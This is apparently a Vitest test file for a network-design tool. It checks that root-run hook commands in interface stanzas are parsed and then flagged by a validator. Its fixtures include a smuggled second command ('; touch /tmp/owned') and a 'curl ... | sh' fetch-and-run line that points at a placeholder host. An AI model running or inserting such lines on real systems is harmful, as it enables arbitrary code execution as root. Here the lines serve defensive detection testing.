import { describe, expect, it } from 'vitest';
import { rootCommands } from '../../../shared/model/root-commands.js';
import { restoreDesign } from '../../../shared/load/index.js';
import { validateDesign } from '../../../shared/validate/index.js';
import { exampleJson } from '../../helpers/design.js';

describe('root commands', () => {
  it('finds every spelling of the user commands, with their continued lines', () => {
    const lines = [
      'iface eth0 inet manual',
      '\tpre-up true',
      '\tup ip link set $IFACE up',
      '\tpost_up ip route add 192.0.2.0/24 \\',
      '\t    via 10.0.0.1',
      '\tpre_down echo',
      '\tdown x',
      '\tpost-down y',
      '\t# post-up commented out',
      '\tupdelay 100',
      '\tovs_extra set bridge ${IFACE} stp_enable=true',
      '\tovs_options bond_mode=balance-tcp',
      '\tovs_options lacp=active; touch /tmp/owned',
    ];
    expect(rootCommands(lines).map((c) => [c.line, c.lines, c.key, c.command])).toEqual([
      [1, 1, 'pre-up', 'true'],
      [2, 1, 'up', 'ip link set $IFACE up'],
      [3, 2, 'post-up', 'ip route add 192.0.2.0/24 via 10.0.0.1'],
      [5, 1, 'pre-down', 'echo'],
      [6, 1, 'down', 'x'],
      [7, 1, 'post-down', 'y'],
      [10, 1, 'ovs-extra', 'set bridge ${IFACE} stp_enable=true'],
      [12, 1, 'ovs-options', 'lacp=active; touch /tmp/owned'],
    ]);
  });

  it('makes check name each command, the element and the host', () => {
    const doc = exampleJson();
    doc.hosts[0].ports[0].extraLines = ['post-up curl -s http://example.invalid/x | sh'];
    const result = restoreDesign(doc);
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    const found = validateDesign(result.design).filter((d) => d.rule === 'host/root-command');
    expect(found.map((d) => [d.severity, d.path, d.message])).toEqual([
      [
        'info',
        'hosts[0].ports[0]',
        'enp88s0 on ms01 runs a command as root (post-up): "curl -s http://example.invalid/x | sh"',
      ],
    ]);
  });
});
